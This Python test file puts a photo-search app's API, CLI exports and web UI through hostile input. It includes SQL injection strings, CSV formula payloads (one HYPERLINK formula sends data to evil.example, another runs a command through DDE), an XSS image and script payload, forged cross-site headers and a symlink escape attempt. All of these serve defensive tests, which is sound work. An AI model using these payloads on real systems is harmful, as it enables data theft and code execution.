"""A hostile user against this session's new surfaces, over a real uvicorn server and real CLI
subprocesses: FTS5 syntax in queries, impossible filter values, tag decisions with out-of-range
ids, duplicated or unknown entries, guards and tokens on the new routes, duplicates over a
library of thousands of copies, and CSV exports of formula-laden embedded metadata."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pyexiv2
import pytest

from indexer.library import Library
from indexer.metadata import MetadataPass
from indexer.perceptual import PerceptualPass
from indexer.sidecars import sidecar_path
from indexer.tagging.review import MAX_DECISIONS_PER_CALL
from tests.api.conftest import serve
from tests.api.test_cli import scout
from tests.conftest import index_folder, pattern_image
from tests.indexer.tagging.conftest import asset_named, tagged_library, tagged_template  # noqa: F401

MODES = ("vector", "keyword", "hybrid")
FTS5_SYNTAX = ['"', '"unbalanced', "*", "cat*", "NEAR(cat dog)", "NEAR(cat", "^cat", "name:cat", "name:",
               "{name folder}:cat", "cat OR dog", "NOT cat", "cat NOT", "AND", '"cat" "', "x" * 2000, "a\x00b",
               "\x00", "🐱 cat", "\u202ecat\u202c", "\u200f", "cat)", "((", "cat' OR 1=1 --", "+", '"*"', 'c"a"t',
               ":", "the of a", "tabby" * 400]


def assert_json_error(response, status):
    assert response.status_code == status, response.text
    body = response.json()
    assert body["error"] and "hint" in body
    return body


def ids(response) -> list[int]:
    assert response.status_code == 200, response.text
    return [hit["asset"]["id"] for hit in response.json()["results"]]


# -- queries -------------------------------------------------------------------------------------

@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("text", FTS5_SYNTAX)
def test_fts5_syntax_in_a_query_is_only_words(live, mode, text):
    response = live.client().get("/api/search", params={"q": text, "mode": mode, "all": "true"})
    if response.status_code == 400:  # no word left to look for: a clear error, never a 500
        assert "words to look for" in response.json()["error"] or "Nothing to search" in response.json()["error"]
        return
    assert response.status_code == 200, response.text


@pytest.mark.parametrize("syntax, words", [
    ("name:tabby", "name tabby"), ("tabby OR zzzqqq", "tabby or zzzqqq"), ("NEAR(tabby zzzqqq)", "near tabby zzzqqq"),
    ("tabby NOT cat", "tabby not cat"), ("{folder}:photos", "folder photos"), ("^tabby", "tabby"),
])
def test_operators_never_widen_a_keyword_search(live, syntax, words):
    client = live.client()
    as_syntax = ids(client.get("/api/search", params={"q": syntax, "mode": "keyword", "all": "true"}))
    as_words = ids(client.get("/api/search", params={"q": words, "mode": "keyword", "all": "true"}))
    assert set(as_syntax) <= set(as_words)


def test_a_column_filter_does_not_reach_other_columns(live):
    """'name:zzzqqq' would, as FTS5 syntax, be a column filter; as words it is two words that
    match nothing here: no result either way, and never all of them."""
    response = live.client().get("/api/search", params={"q": "name:zzzqqq OR *", "mode": "keyword", "all": "true"})
    assert ids(response) == [] or response.status_code == 400


@pytest.mark.parametrize("params", [{"captured_from": "2021-13-45"}, {"captured_to": "2021-02-30"},
                                    {"captured_from": "2022-01-01", "captured_to": "2021-01-01"},
                                    {"captured_from": "yesterday"}])
def test_impossible_capture_dates_are_400(live, params):
    error = assert_json_error(live.client().get("/api/search", params={"q": "cat", **params}), 400)["error"]
    assert "not a date" in error or "is empty" in error


def test_the_last_representable_day_is_a_date_not_a_500(live):
    response = live.client().get("/api/search", params={"q": "cat", "captured_to": "9999-12-31"})
    assert response.status_code in (200, 400), response.text


def test_the_first_representable_day_is_a_date_not_a_500(live):
    response = live.client().get("/api/search", params={"q": "cat", "captured_from": "0001-01-01"})
    assert response.status_code in (200, 400), response.text


@pytest.mark.parametrize("params, status", [({"gps": "maybe"}, 422), ({"camera": "c" * 101}, 422),
                                            ({"captured_from": "2021-01-01T00:00"}, 422), ({"mode": "fts5"}, 422),
                                            ({"tag": "t" * 65}, 400)])
def test_malformed_filters_are_json_errors(live, params, status):
    assert_json_error(live.client().get("/api/search", params={"q": "cat", **params}), status)


@pytest.mark.parametrize("camera", ["%", "_", "\\", "%%", "' OR 1=1 --"])
def test_like_wildcards_in_camera_match_only_themselves(live, camera):
    assert ids(live.client().get("/api/search", params={"q": "cat", "camera": camera, "all": "true"})) == []


# -- tags ----------------------------------------------------------------------------------------

@pytest.fixture()
def tagged_server(tagged_library, offline_encoder):  # noqa: F811
    path = tagged_library.path
    cat = asset_named(tagged_library, "tabby-cat-chelsea.png")
    tagged_library.close()
    with serve(path, offline_encoder, token="s3cret") as server:
        yield server, path, cat


def _decisions(path) -> list[tuple]:
    reader = Library.open(path, readonly=True)
    try:
        return reader.catalog.db.execute("SELECT hash, tag, decision FROM tag_decisions ORDER BY hash, tag").fetchall()
    finally:
        reader.close()


TOKEN = {"X-Scout-Token": "s3cret"}


@pytest.mark.parametrize("asset_id", [0, -1, 2**63, "1e3", 1.5, None, "²"])
def test_decisions_on_impossible_ids_are_422_and_record_nothing(tagged_server, asset_id):
    server, path, _ = tagged_server
    body = {"decisions": [{"asset_id": asset_id, "tag": "cat", "decision": "accepted"}]}
    assert_json_error(server.client().post("/api/tags/decisions", json=body, headers=TOKEN), 422)
    assert _decisions(path) == []


@pytest.mark.parametrize("suffix", ["/api/tags/queue?asset=0", "/api/tags/queue?asset=9223372036854775808",
                                    "/api/tags/queue?asset=1e3", "/api/tags/queue?limit=0",
                                    "/api/tags/queue?limit=100000", "/api/tags/queue?offset=-1",
                                    "/api/tags/queue?tag=" + "t" * 65, "/api/assets/0/tags",
                                    "/api/assets/9223372036854775808/tags", "/api/assets/-1/tags"])
def test_tag_reads_with_impossible_values_are_422(tagged_server, suffix):
    server, _, _ = tagged_server
    assert_json_error(server.client().get(suffix), 422)


def test_too_many_decisions_or_an_unknown_tag_refuse_the_whole_call(tagged_server):
    server, path, cat = tagged_server
    client = server.client()
    many = [{"asset_id": cat, "tag": "cat", "decision": "accepted"}] * (MAX_DECISIONS_PER_CALL + 1)
    assert_json_error(client.post("/api/tags/decisions", json={"decisions": many}, headers=TOKEN), 422)
    assert_json_error(client.post("/api/tags/decisions", json={"decisions": []}, headers=TOKEN), 422)
    for tag in ("cat' OR '1'='1", "cat; DROP TABLE tag_decisions; --", "%", "CAT", " cat"):
        mixed = [{"asset_id": cat, "tag": "cat", "decision": "accepted"},
                 {"asset_id": cat, "tag": tag, "decision": "accepted"}]
        body = assert_json_error(client.post("/api/tags/decisions", json={"decisions": mixed}, headers=TOKEN), 400)
        assert "not a tag" in body["error"]
    assert _decisions(path) == []
    long_reviewer = {"decisions": many[:1], "reviewer": "r" * 65}
    assert_json_error(client.post("/api/tags/decisions", json=long_reviewer, headers=TOKEN), 422)


def test_the_same_decision_twice_in_one_call_leaves_one_row_the_last(tagged_server):
    server, path, cat = tagged_server
    both = [{"asset_id": cat, "tag": "cat", "decision": "accepted"}, {"asset_id": cat, "tag": "cat", "decision": "rejected"}]
    response = server.client().post("/api/tags/decisions", json={"decisions": both}, headers=TOKEN)
    assert response.status_code == 200, response.text
    assert [row[1:] for row in _decisions(path)] == [("cat", "rejected")]
    mine = server.client().get(f"/api/assets/{cat}/tags").json()
    assert [(t["tag"], t["status"]) for t in mine if t["tag"] == "cat"] == [("cat", "rejected")]


def test_decisions_on_assets_gone_from_the_library_are_skipped(tagged_server, offline_encoder, tmp_path):
    server, path, cat = tagged_server
    library = Library.open(path)
    photo = library.catalog.asset(cat).path
    library.close()
    # The photos folder is shared by every copy of the tagged library: moved away, put back.
    shutil.move(photo, tmp_path / "away.png")
    try:
        index_folder(path, [os.path.dirname(photo)], offline_encoder)[0].close()
    finally:
        shutil.move(tmp_path / "away.png", photo)
    body = {"decisions": [{"asset_id": cat, "tag": "cat", "decision": "accepted"}]}
    assert server.client().post("/api/tags/decisions", json=body, headers=TOKEN).json() == {"recorded": 0}
    assert _decisions(path) == []
    assert_json_error(server.client().get(f"/api/assets/{cat}/tags"), 404)


def test_writes_to_tags_need_the_token_and_pass_the_guards(tagged_server):
    server, path, cat = tagged_server
    client = server.client()
    body = {"decisions": [{"asset_id": cat, "tag": "cat", "decision": "accepted"}]}
    assert_json_error(client.post("/api/tags/decisions", json=body), 401)
    assert_json_error(client.post("/api/tags/decisions", json=body, headers={"X-Scout-Token": "wrong"}), 403)
    assert_json_error(client.post("/api/tags/decisions", json=body, headers={**TOKEN, "Origin": "http://evil.example"}), 403)
    assert_json_error(client.post("/api/tags/decisions", json=body, headers={**TOKEN, "Sec-Fetch-Site": "cross-site"}), 403)
    assert_json_error(client.post("/api/tags/decisions", json=body, headers={**TOKEN, "Host": "evil.example"}), 400)
    for route in ("/api/tags", "/api/tags/queue", f"/api/assets/{cat}/tags", "/api/duplicates"):
        assert_json_error(client.get(route, headers={"Host": "evil.example"}), 400)
    assert _decisions(path) == []


@pytest.mark.parametrize("method, route, allowed", [
    ("DELETE", "/api/tags/decisions", "POST"), ("GET", "/api/tags/decisions", "POST"), ("PUT", "/api/tags", "GET"),
    ("POST", "/api/tags/queue", "GET"), ("DELETE", "/api/assets/1/tags", "GET"), ("POST", "/api/duplicates", "GET"),
])
def test_wrong_methods_on_the_new_routes_are_405_with_allow(live, method, route, allowed):
    response = live.client().request(method, route)
    assert_json_error(response, 405)
    assert allowed in response.headers["allow"]


# -- duplicates ----------------------------------------------------------------------------------

def test_thousands_of_identical_files_are_one_cluster(tmp_path, offline_encoder):
    folder = tmp_path / "copies"
    folder.mkdir()
    pattern_image(7).save(folder / "original.png")
    for n in range(1500):
        shutil.copy(folder / "original.png", folder / f"copy-{n:04d}.png")
    library, _ = index_folder(tmp_path / "lib", [folder], offline_encoder, passes=[PerceptualPass(50_000_000)])
    library.close()
    with serve(tmp_path / "lib", offline_encoder) as server:
        response = server.client().get("/api/duplicates")
        assert response.status_code == 200
        report = response.json()
    (cluster,) = report["clusters"]
    assert report["contents"] == 1 and cluster["kind"] == "exact" and len(cluster["members"]) == 1501
    assert [m["relation"] for m in cluster["members"]].count("keeper") == 1
    assert len(response.content) < 1501 * 400  # about 250 bytes a member, nothing repeated per member


# -- exports -------------------------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def test_csv_export_never_starts_a_cell_with_a_formula(tmp_path, tiny_encoder):
    photos = tmp_path / "photos"
    photos.mkdir()
    for n, formula in enumerate(FORMULAS):
        path = photos / f"p{n}.jpg"
        pattern_image(n, (64, 48)).save(path, "JPEG")
        with pyexiv2.Image(str(path)) as image:
            image.modify_xmp({"Xmp.dc.title": {'lang="x-default"': formula}, "Xmp.dc.subject": [formula, "beach"],
                              "Xmp.dc.creator": [formula], "Xmp.xmpRights.UsageTerms": {'lang="x-default"': formula}})
    library, _ = index_folder(tmp_path / "lib", [photos], tiny_encoder, passes=[MetadataPass()])
    library.close()
    out = scout("export", "csv", "--library", tmp_path / "lib", check=0).stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for field in ("title", "keywords", "creator", "usage_terms"):
            assert row[field][:1] not in ("=", "+", "-", "@", "\t", "\r"), (field, row[field])
            assert row[field].lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r")
    exported = json.loads(scout("export", "json", "--library", tmp_path / "lib", check=0).stdout)
    assert sorted(r["title"] for r in exported) == sorted(f.strip() for f in FORMULAS)  # JSON: text as read


def test_xmp_export_never_follows_a_sidecar_link_out_of_the_library(tagged_library, tmp_path):  # noqa: F811
    from indexer.tagging.review import TagDesk

    cat = asset_named(tagged_library, "tabby-cat-chelsea.png")
    TagDesk(tagged_library).decide([(cat, "cat", "accepted")], "ana")
    photo = tagged_library.catalog.asset(cat).path
    path = tagged_library.path
    tagged_library.close()
    outside = tmp_path / "elsewhere.xmp"
    outside.write_text("<x:xmpmeta xmlns:x='adobe:ns:meta/'/>")
    before, original = outside.read_bytes(), open(photo, "rb").read()
    os.symlink(outside, sidecar_path(photo))
    done = scout("export", "xmp", "--library", path, check=0)
    assert "symbolic link" in done.stderr and "1 failed" in done.stderr
    assert outside.read_bytes() == before and open(photo, "rb").read() == original
    assert os.path.islink(sidecar_path(photo))


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full (a device that is always full)")
@pytest.mark.parametrize("kind", ["csv", "json"])
def test_an_export_onto_a_full_disk_is_a_clear_error_not_a_traceback(photo_library, kind):
    library, _ = photo_library
    done = scout("export", kind, "--library", library, "--output", "/dev/full", check=2)
    assert "No space left on device" in done.stderr and "Traceback" not in done.stderr


def test_the_last_representable_day_on_the_command_line(photo_library):
    library, _ = photo_library
    done = scout("search", "cat", "--captured-to", "9999-12-31", "--library", library)
    assert done.returncode in (0, 2) and "Traceback" not in done.stderr


def test_thousands_of_blank_images_do_not_make_duplicates_quadratic():
    """Flat and blank images of any colour share one pHash value, so N distinct blank images were
    N²/2 candidate pairs (4,000: 8 million pairs, 2.6 GB; /api/duplicates on a library of
    placeholders ran out of memory). Run in a child process with its address space capped: the
    old code fails there; now a crowded hash value is a star around its first content."""
    script = textwrap.dedent("""
        import resource
        import numpy as np
        from search.duplicates import DuplicateSettings, near_pairs
        count = 12_000
        vectors = np.ones((count, 512), np.float32) + np.random.default_rng(0).normal(0, 0.01, (count, 512)).astype(np.float32)
        vectors /= np.linalg.norm(vectors, axis=1, keepdims=True)
        resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
        pairs = near_pairs(vectors, [1 << 63] * count, DuplicateSettings())
        print("PAIRS", len(pairs), len({j for _, j, _ in pairs} | {i for i, _, _ in pairs}))
    """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=600,
                          cwd=str(Path(__file__).resolve().parents[2]))
    assert done.returncode == 0, done.stderr[-2000:]
    assert "PAIRS 11999 12000" in done.stdout  # every blank image still joins the one cluster


# -- brand safety (H12's, tested last) -----------------------------------------------------------

@pytest.mark.parametrize("value", ["nope", "blocked;DROP", "BLOCKED", "safe,review", "s" * 2000])
def test_an_unknown_safety_filter_is_refused(live, value):
    assert_json_error(live.client().get("/api/search", params={"q": "cat", "safety": value}), 422)


@pytest.mark.parametrize("asset_id", ["0", "-1", "1e3", str(2**63), "²"])
def test_safety_of_impossible_ids_is_422(live, asset_id):
    assert_json_error(live.client().get(f"/api/assets/{asset_id}/safety"), 422)


def test_safety_of_an_unknown_asset_is_404_and_its_route_is_read_only(live):
    client = live.client()
    assert client.get("/api/assets/999999/safety").status_code == 404
    response = client.post("/api/assets/1/safety")
    assert_json_error(response, 405)
    assert "GET" in response.headers["allow"]
    assert_json_error(client.get("/api/assets/1/safety", headers={"Host": "evil.example"}), 400)


# -- the web UI ----------------------------------------------------------------------------------

MARKUP = '<img src=x onerror="document.title=\'pwned\'"><script>document.title="pwned"</script>zebrafly'


def test_markup_in_embedded_metadata_and_ocr_text_renders_as_text(browser, tmp_path, tiny_encoder):
    """Text a photo carries (XMP title and keywords) and text read in it (OCR) reach the result
    cards (keyword snippets) and the detail view: as text, never as markup."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as EC

    from indexer.catalog.ocr import OcrRow
    from tests.browser import wait

    photos = tmp_path / "photos"
    photos.mkdir()
    path = photos / "poster.jpg"
    pattern_image(3, (120, 80)).save(path, "JPEG")
    with pyexiv2.Image(str(path)) as image:
        image.modify_xmp({"Xmp.dc.title": {'lang="x-default"': MARKUP}, "Xmp.dc.subject": [MARKUP]})
    library, _ = index_folder(tmp_path / "lib", [photos], tiny_encoder, passes=[MetadataPass()])
    asset = library.catalog.asset_by_path(str(path))
    line = {"text": MARKUP, "box": [[1, 1], [60, 1], [60, 20], [1, 20]], "score": 0.9}
    library.catalog.store_ocr([OcrRow(asset.hash, "test", MARKUP, [line])])
    library.close()
    with serve(tmp_path / "lib", tiny_encoder) as server:
        browser.get(server.url)
        wait(browser).until(EC.element_to_be_clickable((By.ID, "q"))).send_keys("zebrafly")
        card = wait(browser).until(lambda d: next(iter(d.find_elements(By.CSS_SELECTOR, ".card")), None))
        assert "zebrafly" in card.get_attribute("textContent")  # the keyword snippet
        card.click()
        wait(browser).until(EC.visibility_of_element_located((By.ID, "d-ocr")))
        assert "<script>" in browser.find_element(By.ID, "d-ocr-text").text
        assert "<img src=x" in browser.find_element(By.ID, "d-meta").text
        assert browser.execute_script("return document.title") != "pwned"
        assert not browser.find_elements(By.CSS_SELECTOR, "img[src='x'], #detail script, .card script")
